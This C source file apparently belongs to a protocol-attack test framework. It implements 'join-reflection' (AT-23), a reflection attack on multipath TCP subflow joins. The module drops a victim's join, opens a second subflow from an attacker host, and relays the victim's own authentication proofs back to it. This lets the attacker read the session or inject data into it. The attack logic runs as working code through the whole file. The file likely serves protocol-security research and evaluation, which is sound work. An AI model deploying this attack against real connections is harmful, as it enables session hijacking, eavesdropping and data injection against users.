/* SPDX-License-Identifier: MIT */
/*
 * AT-23: MP_JOIN reflection, D-09. Under one key for both directions the MAC
 * covers two nonces in the order of sender and peer, and nothing else. A join
 * that the victim opens is kept from its peer and answered with what the victim
 * itself says to a join with the same nonce, opened from a host of the
 * attacker's: the victim proves itself to itself, twice.
 *
 *   victim -> peer   SYN(ri), kept        host -> victim  SYN(ri)
 *   victim <- "peer" SYN/ACK(m1, rr)      host <- victim  SYN/ACK(m1, rr)
 *   victim -> peer   ACK(m2), kept        host -> victim  ACK(m2)
 *
 * The second subflow does not touch the tapped path.
 */
#include "atk_inside.h"
#include "atk_join.h"
#include "atk_opts.h"
#include "atk_table.h"
#include "mpx_tcp.h"

#include <string.h>

enum { FIRST_PORT = 41000, PAIRS_MAX = 8 };
#define RETRY UINT64_C(500000000) /* ns */

static const char *const goal_words[] = {"steal", "inject", NULL};
enum { GOAL, SIZE };
enum { INJECT = 1 };
static const struct atk_param params[] = {
    [GOAL] = {"goal", ATK_P_WORD, .words = goal_words},
    [SIZE] = {"size", ATK_P_SIZE, .initial = 64000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

struct pair {
    const struct atk_handshake *victim;
    struct mpx_opt syn;      /* the victim's */
    struct atk_inside kept;  /* the victim's own join, in the peer's name */
    struct atk_inside other; /* ours, from our host */
    bool answered;           /* with the victim's answer to us */
};
struct state {
    struct atk_handshakes handshakes;
    struct pair pair[PAIRS_MAX];
    unsigned n;
};

/* ---- the victim's join, kept from its peer ---- */

static struct pair *find_pair(struct state *st, const struct atk_segment *s)
{
    for (unsigned i = 0; i < st->n; i++)
        if (atk_tcp_receives(&st->pair[i].kept.tcp, s))
            return &st->pair[i];
    return NULL;
}

static void open_other(struct atk *a, struct state *st, struct pair *p,
                       uint64_t now)
{
    struct atk_ends to = p->victim->ends;
    struct mpx_opt o = p->syn;

    memcpy(to.dst, to.src, sizeof to.dst);
    atk_tcp_open_to(&p->other.tcp, a, &to,
                    (uint16_t)(FIRST_PORT + (p - st->pair)));
    atk_inside_start(&p->other, p->victim, MPX_ROLE_I);
    o.u.join.token = p->victim->of[MPX_ROLE_I].token;
    o.u.join.addr_id = ATK_ADDR_ID;
    atk_tcp_send_opt(&p->other.tcp, a, MPX_TCP_SYN, &o, now);
    atk_count_join(a);
}

static void keep_syn(struct atk *a, struct state *st,
                     const struct atk_segment *s, const struct mpx_opt *syn,
                     uint64_t now)
{
    uint8_t nonce[4];
    struct pair *p = &st->pair[st->n];

    p->victim = atk_handshakes_find(&st->handshakes, syn->u.join.token);
    if (!p->victim)
        return;
    st->n++;
    p->syn = *syn;
    mpx_put32(nonce, syn->u.join.nonce);
    atk_spoil(a, nonce, sizeof nonce);
    p->syn.u.join.nonce = mpx_get32(nonce);
    atk_tcp_accept(&p->kept.tcp, a, s);
    atk_inside_start(&p->kept, p->victim, MPX_ROLE_I);
    open_other(a, st, p, now);
}

/* What the victim says on its join goes to ours: the third ACK as it is. */
static void take_kept_segment(struct atk *a, struct pair *p,
                              const struct atk_segment *s, uint64_t now)
{
    struct mpx_opt o;

    if (atk_opts_find(s, MPX_SUB_JOIN, &o) && o.u.join.form == MPX_JOIN_ACK)
        atk_tcp_send_opt(&p->other.tcp, a, MPX_TCP_ACK, &o, now);
    atk_inside_take_kept(a, &p->kept, s, now);
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct pair *p = find_pair(st, s);
    struct mpx_opt o;

    atk_handshakes_note(a, &st->handshakes, s);
    if (now < atk_config(a)->acts || s->dir != 0)
        return ATK_PASS;
    if (p && !(s->flags & (MPX_TCP_SYN | MPX_TCP_RST)))
        take_kept_segment(a, p, s, now);
    if (p)
        return ATK_DROPPED;
    if (mpx_seg_kind_of(s->flags) != MPX_SEG_SYN ||
        !atk_opts_find(s, MPX_SUB_JOIN, &o) ||
        !atk_has_room(a, st->n, PAIRS_MAX))
        return ATK_PASS;
    keep_syn(a, st, s, &o, now);
    return find_pair(st, s) ? ATK_DROPPED : ATK_PASS;
}

/* ---- our join ---- */

/* The victim's answer to us is our answer to it. */
static void on_synack(struct atk *a, struct pair *p, const uint8_t *hdr,
                      uint8_t hdr_len, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};

    if (p->answered || !atk_join_find(hdr, hdr_len, &o.u.join) ||
        !atk_tcp_on_synack(&p->other.tcp, hdr))
        return;
    p->answered = true;
    atk_tcp_send_opt(&p->kept.tcp, a, MPX_TCP_SYN | MPX_TCP_ACK, &o, now);
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;
    unsigned i = (unsigned)seg->flow->local_port - FIRST_PORT;
    enum mpx_seg_kind kind = mpx_seg_kind_of(seg->hdr[MPX_TCP_OFF_FLAGS]);

    if (seg->flow->local_port < FIRST_PORT || i >= st->n || kind == MPX_SEG_RST)
        return;
    if (kind == MPX_SEG_SYNACK) {
        on_synack(a, &st->pair[i], seg->hdr, seg->hdr_len, now);
        return;
    }
    atk_inside_take_segment(a, &st->pair[i].other, seg->hdr, seg->hdr_len,
                            seg->len, now);
    if (atk_param(a, GOAL) == INJECT)
        atk_inside_inject(a, &st->pair[i].other, atk_param(a, SIZE), false,
                          now);
}

static void on_start(struct atk *a, void *state, uint64_t now)
{
    (void)state;
    atk_set_timer(a, now + RETRY);
}

static void on_timer(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; atk_param(a, GOAL) == INJECT && i < st->n; i++)
        atk_inside_inject(a, &st->pair[i].other, atk_param(a, SIZE), true, now);
    atk_set_timer(a, now + RETRY);
}

static void free_state(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++) {
        atk_tcp_free(&st->pair[i].kept.tcp);
        atk_tcp_free(&st->pair[i].other.tcp);
    }
}

const struct atk_ops atk_join_reflect = {
    .name = "join-reflection",
    .id = "AT-23",
    .does = "answers a join to a client that listens with its own proofs, sent "
            "back to it",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.3",
    .powers = ATK_READ | ATK_DROP | ATK_INJECT | ATK_HOST,
    .params = params,
    .spoils = true,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = on_start,
    .on_host_segment = on_host_segment,
    .on_timer = on_timer,
    .free_state = free_state,
};
